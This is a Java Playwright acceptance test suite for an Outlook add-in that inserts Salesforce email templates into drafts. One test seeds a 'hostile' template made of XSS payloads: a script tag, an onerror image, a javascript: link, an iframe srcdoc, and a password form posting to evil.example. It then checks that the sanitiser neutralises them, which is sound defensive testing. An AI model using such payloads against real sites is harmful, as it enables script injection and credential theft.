package app.tandem.acceptance;

import static app.tandem.acceptance.Hands.button;
import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import app.tandem.sandbox.browser.OutlookWindow;
import app.tandem.sandbox.browser.OutlookWindow.Theme;
import app.tandem.settings.Switch;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.options.SelectOption;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** A template of Salesforce in a mail that is being written (pane section 19). */
class PaneTemplatesTest extends AnnasPane {

    private static final String GREETING = "<p style=\"color:#0b5394\">Dear {!Contact.FirstName}, about"
            + " <b>{!Opportunity.Name}</b>: {!Nothing.Here}</p>";
    private static final String HOSTILE = "<p>Good morning</p><script>console.error('ran')</script>"
            + "<img src=x onerror=\"console.error('ran')\"><a href=\"javascript:console.error('ran')\">prices</a>"
            + "<iframe srcdoc=\"<script>console.error('ran')</script>\"></iframe>"
            + "<form action=\"https://evil.example/\"><input name=password autofocus onfocus=\"console.error('ran')\"></form>";

    private static String folder;

    @BeforeAll
    static void start() {
        String account = put("Account", Map.of("Name", "Templar Works"));
        put(
                "Contact",
                Map.of(
                        "FirstName", "Tilda",
                        "LastName", "Templar",
                        "Email", "tilda@templar-works.example",
                        "AccountId", account));
        put(
                "Contact",
                Map.of(
                        "FirstName", "Otto",
                        "LastName", "Other",
                        "Email", "otto@templar-works.example",
                        "AccountId", account));
        put(
                "Opportunity",
                Map.of(
                        "Name",
                        "Forty pumps",
                        "AccountId",
                        account,
                        "StageName",
                        "Prospecting",
                        "CloseDate",
                        LocalDate.ofInstant(stage.sandbox.kernel().clock.now(), ZoneOffset.UTC)
                                .plusDays(30)));
        folder = put("Folder", Map.of("Name", "For tests", "Type", "Email", "AccessType", "Public"));
        template("Greeting", Map.of("Subject", "For {!Contact.FirstName}", "HtmlValue", GREETING));
        String hostile = template("Hostile", Map.of("HtmlValue", HOSTILE));
        put("Attachment", Map.of("ParentId", hostile, "Name", "prices.pdf", "Body", new byte[] {1}));
    }

    /** pane U-265 … U-271: chosen, filled for the recipient, looked at, and in the draft at the cursor with its subject. */
    @Test
    void aTemplateIsFilledForTheRecipientAndPutIntoTheDraft() throws Exception {
        try (OutlookWindow outlook = draft("tilda@templar-works.example", "")) {
            FrameLocator pane = outlook.pane();
            button(pane.locator("header"), "Templates").click();
            assertThat(pane.locator(".templates .row").first()).isVisible();
            look(outlook, "templates list");
            pane.locator(".templates select").selectOption(new SelectOption().setLabel("For tests"));
            assertThat(pane.locator(".templates .row")).hasCount(2);
            pane.locator(".templates input").fill("nothing like that");
            assertThat(pane.locator(".templates .empty")).containsText("nothing like that");
            pane.locator(".templates input").fill("greet");
            assertThat(pane.locator(".templates .row")).hasCount(1);
            pane.locator(".templates .row").click();
            Locator preview = pane.frameLocator("iframe.preview").locator("body");
            assertThat(preview).containsText("Dear Tilda, about Forty pumps");
            assertThat(preview.locator("mark")).hasText("{!Nothing.Here}");
            assertThat(pane.locator(".result .subject")).containsText("For Tilda");
            assertThat(pane.locator(".conflicts")).containsText("{!Nothing.Here}");
            look(outlook, "template");
            pane.getByLabel("Related record").selectOption(new SelectOption().setLabel("No record"));
            assertThat(preview).containsText("Dear Tilda, about :");
            pane.getByLabel("Related record").selectOption(new SelectOption().setLabel("Forty pumps (Opportunity)"));
            assertThat(preview).containsText("Forty pumps");
            button(pane.locator("header"), "Insert").click();
            assertThat(outlook.body()).containsText("Dear Tilda, about Forty pumps");
            assertThat(outlook.body().locator("mark")).hasCount(0);
            assertThat(outlook.body().locator("p[style*=color]")).hasCount(1);
            assertThat(outlook.field("Subject")).hasValue("For Tilda");
            assertThat(pane.locator(".toast.success")).containsText("in your mail");
            assertThat(pane.locator(".home")).isVisible();
            assertThat(outlook.problems()).isEmpty();
        }
        Wire.until(
                "counted as used",
                Stage.PATIENCE,
                () -> stage.query(anna, "SELECT TimesUsed FROM EmailTemplate WHERE Name = 'Greeting' AND TimesUsed > 0")
                                .size()
                        == 1);
    }

    /** pane U-269: a subject that is there stays, unless the person wants the template's. */
    @Test
    void aSubjectThatIsThereIsReplacedOnlyWhenAsked() {
        for (boolean instead : new boolean[] {false, true}) {
            try (OutlookWindow outlook = draft("tilda@templar-works.example", "My own words")) {
                FrameLocator pane = outlook.pane();
                open(pane, "Greeting");
                Locator question = pane.locator(".result .check-row");
                assertThat(question).containsText("My own words");
                assertThat(question.locator("input")).not().isChecked();
                if (instead) {
                    question.locator("input").check();
                }
                button(pane.locator("header"), "Insert").click();
                assertThat(outlook.body()).containsText("Dear Tilda");
                assertThat(outlook.field("Subject")).hasValue(instead ? "For Tilda" : "My own words");
            }
        }
    }

    /** pane U-273; reliability 2.6: nothing of a template runs, before or after it is in the draft; files are left out and named. */
    @Test
    void aHostileTemplateRunsNothing() {
        try (OutlookWindow outlook = draft("tilda@templar-works.example", "Prices")) {
            FrameLocator pane = outlook.pane();
            open(pane, "Hostile");
            Locator preview = pane.frameLocator("iframe.preview").locator("body");
            assertThat(preview).containsText("Good morning");
            assertThat(pane.locator("iframe.preview")).hasAttribute("sandbox", "");
            assertThat(pane.locator("iframe.preview").getAttribute("srcdoc"))
                    .contains("prices")
                    .doesNotContain("ran", "onerror", "javascript", "<form", "<iframe", "<script");
            assertThat(pane.locator(".conflicts")).containsText("prices.pdf");
            button(pane.locator("header"), "Insert").click();
            assertThat(outlook.body()).containsText("Good morning");
            assertThat(outlook.body().innerHTML()).doesNotContain("ran", "javascript", "<input");
            assertThat(outlook.field("Subject")).hasValue("Prices");
            assertThat(outlook.problems()).isEmpty();
        }
    }

    /** pane U-59, U-430, U-433: what fails says so in words and can be tried again; the draft is as it was. */
    @Test
    void whatFailsCanBeTriedAgain() {
        try (OutlookWindow outlook = draft("tilda@templar-works.example", "")) {
            FrameLocator pane = outlook.pane();
            open(pane, "Greeting");
            assertThat(pane.frameLocator("iframe.preview").locator("body")).containsText("Dear Tilda");
            outlook.fail("body.setSelectedData", 9019);
            button(pane.locator("header"), "Insert").click();
            assertThat(pane.locator(".toast.error")).containsText("Outlook did not take the text");
            assertThat(outlook.field("Subject")).hasValue("");
            outlook.heal();
            button(pane.locator("header"), "Insert").click();
            assertThat(outlook.body()).containsText("Dear Tilda");
        }
    }

    /** pane U-12, U-265: only where something is written, and not where the administrator switched it off. */
    @Test
    void templatesAreOfferedOnlyWhereTheyCanBeUsed() {
        stage.deliver(anna, """
                From: Tilda <tilda@templar-works.example>
                To: %s
                Subject: Only to read
                Message-ID: <read@templates.example>

                Hello.
                """.formatted(anna.mail()));
        try (OutlookWindow outlook = stage.open(anna, "Only to read")) {
            assertThat(outlook.pane().locator("[data-object=Contact] .card")).hasCount(1);
            assertThat(button(outlook.pane().locator("header"), "Templates")).hasCount(0);
        }
        stage.switches().global(Switch.TEMPLATES, false);
        try (OutlookWindow outlook = draft("tilda@templar-works.example", "")) {
            assertThat(outlook.pane().locator("[data-object=Contact] .card")).hasCount(1);
            assertThat(button(outlook.pane().locator("header"), "Templates")).hasCount(0);
        } finally {
            stage.switches().global(Switch.TEMPLATES, null);
        }
    }

    private static OutlookWindow draft(String to, String subject) {
        OutlookWindow outlook = stage.host.open(anna);
        outlook.nestedSignIn(OutlookWindow.NestedSignIn.UNSUPPORTED);
        outlook.newMail().fill("To", to).fill("Subject", subject);
        outlook.press("Open Tandem");
        stage.signIn(outlook, anna);
        assertThat(outlook.pane().locator("[data-object=Contact] .card").first())
                .isVisible();
        return outlook;
    }

    private static void open(FrameLocator pane, String template) {
        button(pane.locator("header"), "Templates").click();
        pane.locator(".templates .row", new FrameLocator.LocatorOptions().setHasText(template))
                .click();
    }

    /** 320 px wide, light and dark: nothing wider than the pane (U-47), nothing that axe objects to (U-421 … U-424). */
    private static void look(OutlookWindow outlook, String what) {
        for (Theme theme : List.of(Theme.DARK, Theme.LIGHT)) {
            outlook.theme(theme);
            outlook.paneColumn()
                    .screenshot(new Locator.ScreenshotOptions()
                            .setPath(Path.of(
                                    "target/screens",
                                    what + " " + theme.name().toLowerCase(java.util.Locale.ROOT) + ".png")));
            Frame pane = outlook.paneFrame();
            assertThat((Integer) pane.evaluate("document.documentElement.scrollWidth"))
                    .as(what)
                    .isLessThanOrEqualTo(320);
            assertThat(Axe.objections(pane)).as(what).isEmpty();
        }
    }

    private static String template(String name, Map<String, Object> more) {
        Map<String, Object> fields = new HashMap<>(Map.of(
                "Name",
                name,
                "DeveloperName",
                name,
                "FolderId",
                folder,
                "FolderName",
                "For tests",
                "IsActive",
                true,
                "TemplateType",
                "custom",
                "UiType",
                "Aloha",
                "TemplateStyle",
                "none"));
        fields.putAll(more);
        return put("EmailTemplate", fields);
    }

    private static String put(String type, Map<String, ?> fields) {
        return stage.sandbox.salesforce().load(anna.orgId(), type, new HashMap<>(fields));
    }
}
